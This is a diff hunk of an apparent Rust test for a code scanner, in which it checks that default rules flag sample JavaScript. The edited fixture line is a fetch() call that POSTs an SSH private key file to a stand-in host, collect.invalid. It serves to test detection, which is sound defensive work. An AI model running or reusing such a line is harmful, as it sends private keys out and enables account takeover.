@@ -317,7 +317,7 @@ fn harm_that_the_seed_sees_is_seen_by_the_default_rules() {
         ),
         (
             "a key",
-            "fetch('https://collect.invalid', { method: 'POST', body: require('fs').readFileSync('/root/.ssh/id_rsa') });\n",
+            "fetch('https://collect.invalid', { method: 'POST', body: require('fs').readFileSync('/home/me/.ssh/id_rsa') });\n",
         ),
     ] {
         let report = report(Preset::Evidence, &[("run.js", text)]);
